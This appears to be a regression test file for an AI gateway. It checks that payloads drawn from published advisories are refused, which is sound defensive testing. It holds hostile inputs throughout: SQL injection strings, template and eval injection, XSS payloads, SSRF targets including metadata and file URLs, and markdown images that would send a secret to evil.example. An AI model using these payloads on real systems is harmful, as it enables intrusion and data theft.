"""Published vulnerabilities of gateways, chat pages and agents: each attack is made here, and fails.

The tests are named after the advisories. `tests/reliability.py` lists all of them, also those that larger
tests guard against, and those that do not apply because groundwire does not have the feature.
"""

from __future__ import annotations

import asyncio
import json
import sqlite3
import subprocess
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, closing
from io import BytesIO
from itertools import pairwise
from pathlib import Path

import aiohttp
import pytest

from groundwire.commands.http_app import GATEWAY_ROUTES
from groundwire.config.schema import ProviderSettings
from groundwire.dialects.json import dump_json, load_json
from groundwire.dialects.sse import FrameReader, encode_frame
from groundwire.errors import FetchRefused, UpstreamWireError
from groundwire.faces.mcp.calls import FetchAllowList
from groundwire.faces.web.markdown import render_text
from groundwire.model import Source
from groundwire.model.value import replace
from groundwire.providers.copilot.command import arguments
from groundwire.server.keys import KeyFile
from groundwire.server.usage import UsageRecorder
from groundwire.store.base import Session
from groundwire.store.sqlite import open_sqlite
from groundwire.testing.answers import answer_events
from groundwire.testing.script import Script, ScriptedResponse, json_response
from groundwire.testing.upstream import Upstream, answer
from groundwire.text.urls import domain_of, safe_url
from groundwire.transport.ssrf import REFUSED, check_url, is_public
from tests.architecture.tree import SOURCE
from tests.config.machine import Machine
from tests.faces.gateway.asgi_client import (
    LOCAL,
    SMALLEST_REQUESTS,
    AsgiResponse,
    app_in,
    post_json,
    send_request,
)
from tests.faces.gateway.raw import INBOUND, fetch, request_of
from tests.faces.gateway.serving import RunningGateway, provider_at, serving
from tests.faces.web.serving import running_page
from tests.faces.web.test_owners import two_users
from tests.faces.web.test_pages import open_page, stream_of, token_of
from tests.transport.canaries import FORBIDDEN_HOST, FakeResolver, page, small_web

pytestmark = pytest.mark.server

KEY = "upstream-key-0123456789"
ANSWER = answer("openai_chat", answer_events("Yes."))
QUESTION = [{"role": "user", "content": "q?"}]
MCP = {**LOCAL, "accept": "application/json, text/event-stream", "content-type": "application/json"}


@asynccontextmanager
async def gateway_and_canary(
    response: ScriptedResponse = ANSWER, dialect: str = "openai_chat"
) -> AsyncIterator[tuple[RunningGateway, Upstream, Upstream]]:
    """A gateway with a key for its provider, the provider, and a server that must never be connected to."""
    async with (
        Upstream(response) as upstream,
        Upstream(response) as canary,
        serving(
            {"mine": replace(provider_at(dialect, upstream.url), key_env="MINE_KEY")}, env={"MINE_KEY": KEY}
        ) as here,
    ):
        yield here, upstream, canary
        assert canary.connections == 0


async def chat(here: RunningGateway, body: object = None, **headers: str) -> tuple[int, str]:
    """Send a Chat request with additional fields and headers."""
    sent = {"model": "mine/m", "messages": QUESTION, **(body if isinstance(body, dict) else {})}
    async with (
        aiohttp.ClientSession() as client,
        client.post(f"{here.url}/v1/chat/completions", json=sent, headers=headers) as response,
    ):
        return response.status, await response.text()


async def mcp_call(folder: Path, message: object, headers: dict[str, str] | None = None) -> AsgiResponse:
    """Send a message to `/mcp` of a gateway."""
    gateway = app_in(folder)
    body = message if isinstance(message, bytes) else json.dumps(message).encode()
    try:
        return await send_request(gateway, "POST", "/mcp", {**MCP, **(headers or {})}, body)
    finally:
        for close in gateway.on_close:
            await close()


def html_of(text: str) -> str:
    """An answer as the chat page shows it."""
    return "".join(render_text(text, (), (), lambda group, number: "").blocks)


# Code and SQL in requests


def test_litellm_1_82_8_no_file_of_the_package_runs_whenever_python_starts() -> None:
    names = {path.name for path in SOURCE.rglob("*")}
    assert not {name for name in names if name.endswith(".pth")}
    assert not names & {"sitecustomize.py", "usercustomize.py"}


@pytest.mark.parametrize("header", ["authorization", "x-api-key", "x-goog-api-key"])
async def test_cve_2026_42208_a_wrong_key_is_not_part_of_a_statement(tmp_path: Path, header: str) -> None:
    KeyFile(str(tmp_path)).create("me", 0)
    with open_sqlite(tmp_path / "usage.db") as store:
        store.put_session(Session("s", "a", ""))
        gateway = app_in(tmp_path)
        gateway.usage_recorder = UsageRecorder(store, interval=0.01)
        path, body = SMALLEST_REQUESTS["openai_chat"]
        for attack in (
            "' OR '1'='1",
            "x'; DROP TABLE groundwire_sessions; --",
            "%s %(id)s ?",
            "' UNION SELECT 1",
        ):
            head = {**LOCAL, header: f"Bearer {attack}", "content-type": "application/json"}
            refused = await send_request(gateway, "POST", path, head, json.dumps(body).encode())
            assert refused.status == 401
            assert "syntax" not in refused.body.decode()
        await gateway.usage_recorder.aclose()
        assert store.session("s") is not None


@pytest.mark.parametrize(
    "body",
    [
        {"command": "touch", "args": ["{marker}"], "env": {}, "transport": "stdio"},
        {"mcp_servers": [{"type": "stdio", "command": "touch", "args": ["{marker}"]}]},
        {"tools": [{"type": "mcp", "server_label": "x", "command": "touch {marker}"}]},
    ],
    ids=["test connection", "registration", "tool"],
)
async def test_cve_2026_42271_and_30623_no_request_starts_a_process(
    body: dict[str, object], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also CVE-2026-90898 (Bifrost), CVE-2026-45018 (Chainlit), CVE-2026-40933 (Flowise), CVE-2026-22252
    (LibreChat)."""
    marker = tmp_path / "marker"
    started: list[object] = []

    def start(self: object, *command: object, **_: object) -> None:
        started.append(command)

    monkeypatch.setattr(subprocess.Popen, "__init__", start)
    gateway = app_in(tmp_path / "data")
    attack = json.loads(json.dumps(body).replace("{marker}", str(marker)))
    for route in GATEWAY_ROUTES:
        if route.method == "POST":
            smallest = next((sent for at, sent in SMALLEST_REQUESTS.values() if at == route.path), {})
            data = json.dumps({**smallest, **attack}).encode()
            head = {**LOCAL, "content-type": "application/json"}
            await send_request(gateway, "POST", route.path.replace("{model}", "auto"), head, data)
    await mcp_call(tmp_path / "data", {"jsonrpc": "2.0", "id": 1, "method": "servers/add", "params": attack})
    assert started == []
    assert not marker.exists()


async def test_cve_2026_42203_templates_in_requests_are_text() -> None:
    """Also PYSEC-2026-3861 and PYSEC-2026-387."""
    attack = "{{ 7 * 191 }}{% print(7 * 191) %}${7*191}"
    async with gateway_and_canary() as (here, upstream, _):
        body = {"messages": [{"role": "user", "content": attack}], "chat_template": attack, "prompt": attack}
        status, text = await chat(here, body)
        assert status == 200
        sent = "".join(received.body.decode() for received in upstream.requests)
        assert attack in sent
        assert "1337" not in text + sent
    assert "1337" not in html_of(attack)


def test_cve_2024_4264_and_5751_settings_are_not_evaluated(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    attack = f"__import__('pathlib').Path('{marker}').touch()"

    async def work() -> None:
        settings = ProviderSettings("openai_chat", "http://127.0.0.1:9/v1", model=attack, key_env=attack)
        async with serving({"mine": settings}, env={"OPENAI_API_KEY": attack}) as here:
            assert (await chat(here))[0] >= 400

    asyncio.run(work())
    assert not marker.exists()


# Access


@pytest.mark.parametrize(
    "host", ["a/?x=", "localhost/healthz?x=", "localhost#", "localhost/docs/..", "a@localhost"]
)
async def test_cve_2026_48710_badhost_the_host_header_does_not_choose_the_route(
    tmp_path: Path, host: str
) -> None:
    gateway = app_in(tmp_path)
    KeyFile(str(tmp_path)).create("me", 0)
    assert (await send_request(gateway, "GET", "/v1/models", {"host": host})).status == 421
    public = app_in(tmp_path, host="0.0.0.0")  # noqa: S104  any Host is accepted there, and every request needs a key
    assert (await send_request(public, "GET", "/v1/models", {"host": host})).status in (401, 421)


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/key/update", {"key": "{key}", "allowed_routes": ["/*"]}),
        ("/key/generate", {"user_role": "proxy_admin"}),
        ("/user/update", {"user_id": "me", "user_role": "proxy_admin"}),
        ("/config/update", {"environment_variables": {"PATH": "/theirs"}}),
        ("/v1/keys", {"name": "me", "scopes": ["*"]}),
        ("/guardrails/test_custom_code", {"code": "import os"}),
    ],
)
async def test_cve_2026_47101_47102_and_35029_no_route_changes_keys_roles_or_settings(
    tmp_path: Path, path: str, body: dict[str, object]
) -> None:
    """Also CVE-2026-40217: there is no route that takes code."""
    key, _ = KeyFile(str(tmp_path)).create("me", 0)
    before = KeyFile(str(tmp_path)).path.read_bytes()
    gateway = app_in(tmp_path)
    head = {**LOCAL, "x-api-key": key, "content-type": "application/json"}
    for method in ("POST", "PUT", "PATCH"):
        sent = json.dumps(body).replace("{key}", key).encode()
        assert (await send_request(gateway, method, path, head, sent)).status in (403, 404, 405)
    assert KeyFile(str(tmp_path)).path.read_bytes() == before


async def test_cve_2026_35030_a_key_with_the_same_beginning_is_another_key(tmp_path: Path) -> None:
    gateway = app_in(tmp_path)
    key, _ = KeyFile(str(tmp_path)).create("me", 0)
    assert (await send_request(gateway, "GET", "/v1/models", {**LOCAL, "x-api-key": key})).status == 200
    for length in (20, 32, len(key) - 1):
        twin = key[:length] + "".join("a" if char != "a" else "b" for char in key[length:])
        assert (await send_request(gateway, "GET", "/v1/models", {**LOCAL, "x-api-key": twin})).status == 401


async def test_pysec_2026_4067_mcp_needs_the_same_key_as_everything_else(tmp_path: Path) -> None:
    key, _ = KeyFile(str(tmp_path)).create("me", 0)
    listing = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
    assert (await mcp_call(tmp_path, listing)).status == 401
    assert (await mcp_call(tmp_path, listing, {"x-api-key": key})).status == 200


async def test_cve_2026_59216_the_session_of_another_user_cannot_be_continued(tmp_path: Path) -> None:
    async with two_users(tmp_path) as (here, me, you):
        events = await stream_of(me.browser, me.token, text="Mine?")
        session = str(events[0][1]["session"])
        before = len(here.store.messages(session))
        ((name, refused),) = await stream_of(you.browser, you.token, text="Theirs?", session=session)
        assert (name, refused["status"]) == ("refused", 404)
        assert len(here.store.messages(session)) == before


async def test_cve_2025_66416_and_66414_a_rebound_name_does_not_reach_mcp(tmp_path: Path) -> None:
    """Also CVE-2026-11624 (Google's toolbox) and GHSA-rjr6-rcgv-9m7m (the Ruby SDK)."""
    listing = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
    assert (await mcp_call(tmp_path, listing, {"host": "evil.example:8484"})).status == 421
    assert (await mcp_call(tmp_path, listing, {"origin": "http://evil.example"})).status == 403
    assert (await mcp_call(tmp_path, listing)).status == 200


async def test_cve_2025_53365_and_53366_garbage_does_not_end_the_mcp_server(tmp_path: Path) -> None:
    gateway = app_in(tmp_path)
    try:
        for garbage in (b"", b"{", b"[]", b"\xff", b'{"jsonrpc":"2.0","id":1,"method":5}', b"[" * 100_000):
            refused = await send_request(gateway, "POST", "/mcp", MCP, garbage)
            assert 400 <= refused.status < 500
        ping = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "ping"}).encode()
        assert (await send_request(gateway, "POST", "/mcp", MCP, ping)).status == 200
    finally:
        for close in gateway.on_close:
            await close()


async def test_cve_2026_59951_and_52869_mcp_stores_nothing_about_sessions(tmp_path: Path) -> None:
    """A session id only connects requests: one that was never given out is as good as any other."""
    listing = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
    expected = await mcp_call(tmp_path, listing)
    assert (await mcp_call(tmp_path, listing, {"mcp-session-id": "never-given-out"})).body == expected.body


# Hosts, keys and URLs that the caller names


@pytest.mark.parametrize(
    "attack",
    [
        {"api_base": "{url}"},
        {"base_url": "{url}", "api_key": "theirs-0123456789"},
        {"user_config": {"model_list": [{"litellm_params": {"api_base": "{url}"}}]}},
        {"spec_path": "{url}/openapi.json"},
        {"extra_body": {"litellm_params": {"api_base": "{url}"}}},
    ],
    ids=lambda attack: next(iter(attack)),
)
async def test_cve_2024_6587_a_body_does_not_choose_the_upstream_address(attack: dict[str, object]) -> None:
    """Also PYSEC-2026-4070 and PYSEC-2026-4069."""
    async with gateway_and_canary() as (here, upstream, canary):
        status, _ = await chat(here, json.loads(json.dumps(attack).replace("{url}", canary.url)))
        assert status == 200
        assert upstream.requests[0].headers["authorization"] == f"Bearer {KEY}"


@pytest.mark.parametrize("header", ["x-portkey-custom-host", "helicone-target-url", "x-forwarded-host"])
async def test_cve_2025_66405_and_2026_110719_a_header_does_not_choose_it_either(header: str) -> None:
    async with gateway_and_canary() as (here, upstream, canary):
        status, _ = await chat(here, None, **{header: canary.url})
        assert status == 200
        assert header not in upstream.requests[0].headers


@pytest.mark.parametrize("field", ["searxng_url", "callback_url", "proxy", "webhook", "base_url"])
def test_cve_2026_57143_108719_54157_and_33340_a_search_takes_no_address(tmp_path: Path, field: str) -> None:
    """Also CVE-2024-47066 (LobeChat) and CVE-2024-22205 (Whoogle)."""
    refused = post_json(app_in(tmp_path), "/v1/search", {"query": "x", field: "http://127.0.0.1:1/"})
    assert refused.status == 400
    assert refused.json["error"]["type"] == "INVALID_TOOL_ARGUMENTS"


@pytest.mark.parametrize(
    "address",
    [
        "100.64.0.1",
        "2002:7f00:1::",
        "64:ff9b::7f00:1",
        "64:ff9b:1::a9fe:a9fe",
        "fec0::1",
        "::ffff:0:127.0.0.1",
    ],
)
def test_cve_2026_55245_and_70485_no_spelling_of_a_private_address_is_public(address: str) -> None:
    """Bifrost and Open WebUI."""
    assert not is_public(address)


@pytest.mark.parametrize("url", ["http://0.0.0.0/", "http://0/", "http://[::]/", "http://169.254.169.254/"])
def test_cve_2025_24354_the_unspecified_address_is_refused(url: str) -> None:
    with pytest.raises(FetchRefused, match=REFUSED):
        check_url(url)


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1\\@good.example/", "http://127.0.0.1\\.good.example/", "http:\\\\127.0.0.1/"]
)
def test_cve_2026_24779_and_25960_check_and_connection_read_the_same_host(url: str) -> None:
    with pytest.raises(FetchRefused):
        check_url(url)
    assert domain_of(url) in ("127.0.0.1", "")


@pytest.mark.parametrize(
    "target", ["http://127.0.0.2:{port}/", "http://inside.example.com:{port}/", "file:///etc/passwd"]
)
async def test_cve_2026_45331_45400_and_45401_redirects_are_checked_like_urls(target: str) -> None:
    """Open WebUI's web search; also GO-2025-4154 and GO-2026-5652 (new-api)."""
    names = FakeResolver(www_example_com=[["127.0.0.1"]], inside_example_com=[[FORBIDDEN_HOST]])
    async with small_web(page(), names) as web:
        redirect = ScriptedResponse(302, {"location": target.format(port=web.port)})
        web.upstream.script = Script((redirect,))
        with pytest.raises(FetchRefused, match=REFUSED):
            await web.fetcher.get(web.url("/", "www.example.com"))


def test_cve_2026_21852_a_project_does_not_choose_where_keys_are_sent(tmp_path: Path) -> None:
    machine = Machine(tmp_path)
    machine.write_project_file('[providers.anthropic]\nbase_url = "https://evil.example"')
    assert "a project's file may not set this" in machine.load_error()


def test_cve_2026_32625_variables_in_a_project_s_address_are_not_expanded(tmp_path: Path) -> None:
    """LibreChat; also CVE-2025-69222."""
    machine = Machine(tmp_path)
    machine.write_project_file('[providers.x]\nbase_url = "https://evil.example/${SECRET}/{env:SECRET}"')
    assert "canary-secret" not in machine.load_error(env={"SECRET": "canary-secret"})


def test_cve_2026_54316_only_pages_that_a_search_found_are_fetched() -> None:
    found = FetchAllowList(b"secret")
    found.add("https://good.example/page")
    for url in ("https://good.example/page?leak=SECRET", "https://good.example/", "https://evil.example/"):
        assert found.resolve(url) == ""


def test_ghsa_g8r9_g2v8_jv6f_the_cli_has_no_shell() -> None:
    flags = arguments("gpt-4.1")
    assert flags[flags.index("--available-tools") + 1] == "web_search"
    assert ("--deny-tool", "shell") in pairwise(flags)
    assert not any(flag.startswith("--allow-all") for flag in flags)


async def test_cve_2024_9606_no_part_of_a_key_is_in_an_error() -> None:
    """Also LiteLLM 8075, 15799 and 25203: the key of Gemini is never part of a URL."""
    echo = json_response({"error": {"code": 400, "message": f"API key not valid: {KEY} ({KEY[:5]}…)"}}, 400)
    async with gateway_and_canary(echo, "gemini") as (here, upstream, _):
        for dialect in INBOUND:
            response = await fetch(here.url, request_of(dialect, "mine/m", stream=False))
            assert response.status >= 400
            text = response.body.decode() + str(response.headers)
            assert [KEY[at : at + 8] for at in range(len(KEY) - 7) if KEY[at : at + 8] in text] == []
        assert all(KEY not in received.target for received in upstream.requests)


async def test_claude_code_46105_beta_headers_of_one_vendor_do_not_reach_another() -> None:
    async with gateway_and_canary() as (here, upstream, _):
        assert (await chat(here, None, **{"anthropic-beta": "context-1m-2027-01-01"}))[0] == 200
        assert "anthropic-beta" not in upstream.requests[0].headers


# Answers


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVa\tScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "$\\href{javascript:alert(1)}{x}$",
        '```vega\n{"data": {"url": "https://evil.example/"}}\n```',
        '```mermaid\nclick A "javascript:alert(1)"\n```',
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    ],
)
def test_cve_2026_109288_109300_70492_and_70480_an_answer_has_no_active_content(text: str) -> None:
    """Open WebUI, also CVE-2026-45303 and CVE-2026-59214; LightRAG CVE-2026-86062; ChatterMate
    CVE-2026-24399; LobeChat CVE-2026-23733."""
    html = html_of(text)
    for tag in (
        "<img",
        "<svg",
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<link",
        "<style",
        'href="java',
        'href="data',
    ):
        assert tag not in html.lower()


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "java\nscript:alert(1)", "vbscript:x"]
)
async def test_cve_2026_109291_a_citation_has_no_script_as_its_address(url: str) -> None:
    assert safe_url(url) == ""
    evil = answer("openai_chat", answer_events("Yes, it is.", Source(url, "Click me")))
    async with gateway_and_canary(evil) as (here, _, _):
        for dialect in INBOUND:
            response = await fetch(here.url, request_of(dialect, "mine/m", stream=True))
            assert b"script:" not in response.body
            assert b"data:text" not in response.body


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=SECRET)",
        "![x][r]\n\n[r]: https://evil.example/?q=SECRET",
        "[![x](https://evil.example/?q=SECRET)](https://evil.example/)",
        "<link rel=prefetch href=https://evil.example/?q=SECRET>",
    ],
)
def test_cve_2025_32711_echoleak_showing_an_answer_fetches_nothing(text: str) -> None:
    html = html_of(text).lower()
    assert "<img" not in html
    assert "<link" not in html
    assert "src=" not in html


async def test_cve_2025_8848_the_language_of_the_browser_is_not_written_into_the_page(tmp_path: Path) -> None:
    async with running_page(tmp_path, {}) as here, aiohttp.ClientSession() as browser:
        head = {"accept-language": '"><script>alert(1)</script>,de;q=0.1'}
        async with browser.get(here.url, headers=head) as response:
            html = await response.text()
    assert "alert(1)" not in html
    assert '<html lang="de"' in html


# Limits


@pytest.mark.parametrize("path", ["/v1/messages", "/v1/chat/completions", "/v1/search", "/mcp"])
async def test_cve_2024_8984_a_multipart_body_is_refused_unread(tmp_path: Path, path: str) -> None:
    gateway = app_in(tmp_path)
    head = {**MCP, "content-type": f"multipart/form-data; boundary={'-' * 10_000}"}
    refused = await send_request(gateway, "POST", path, head, b"-" * 1_000_000)
    for close in gateway.on_close:
        await close()
    assert 400 <= refused.status < 500


async def test_cve_2025_62727_a_flood_of_ranges_is_ignored(tmp_path: Path) -> None:
    ranges = ",".join(f"{at}-{at + 1}" for at in range(0, 3000, 3))
    async with open_page(tmp_path) as (_, browser):
        async with browser.get("/static/x/style.css") as whole:
            expected = await whole.read()
        async with browser.get("/static/x/style.css", headers={"range": f"bytes={ranges}"}) as response:
            assert (response.status, await response.read()) == (200, expected)


@pytest.mark.parametrize("flood", ["&f=x" * 300, "&title=" + "x" * 3_000_000], ids=["fields", "bytes"])
async def test_cve_2026_54283_and_2025_54121_forms_have_limits(tmp_path: Path, flood: str) -> None:
    async with open_page(tmp_path) as (_, browser):
        form = BytesIO(f"token={await token_of(browser)}{flood}".encode())
        head = {"content-type": "application/x-www-form-urlencoded"}
        async with browser.post("/language", data=form, headers=head) as response:
            assert response.status == 413


# Files and streams


def test_sqlite_wal_reset_no_database_has_a_write_ahead_log(tmp_path: Path) -> None:
    open_sqlite(tmp_path / "store.db").close()
    with closing(sqlite3.connect(tmp_path / "store.db")) as connection:
        assert connection.execute("PRAGMA journal_mode").fetchone() != ("wal",)
    sources = {path.name: path.read_text("utf-8").lower() for path in SOURCE.rglob("*.py")}
    assert [
        name for name, text in sources.items() if "journal_mode = wal" in text or "journal_mode=wal" in text
    ] == []


@pytest.mark.parametrize("char", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1e"])
def test_httpx_sse_34_unusual_line_ends_do_not_end_a_line(char: str) -> None:
    """Also codex-lb 1010, dify 39008, FastAPI 15515 and 15608, which is the emitting side."""
    data = f"a{char}b".encode()
    (frame,) = [*(reader := FrameReader()).feed(b"data: " + data + b"\n\n"), *reader.close()]
    assert frame.data == data
    encoded = encode_frame("", dump_json({"t": f"a{char}b"}))
    assert len(encoded.decode().rstrip("\n").splitlines()) == 1


@pytest.mark.parametrize(
    "text", ["[" * 100_000, '{"n": ' + "9" * 5000 + "}", '{"n": NaN}', '{"n": 1e999}', '"\\ud800"'], ids=len
)
def test_json_that_breaks_parsers_or_encoders_is_refused_or_repaired(text: str) -> None:
    try:
        value = load_json(text, UpstreamWireError)
    except UpstreamWireError:
        return
    json.loads(dump_json(value).encode(), parse_constant=pytest.fail)
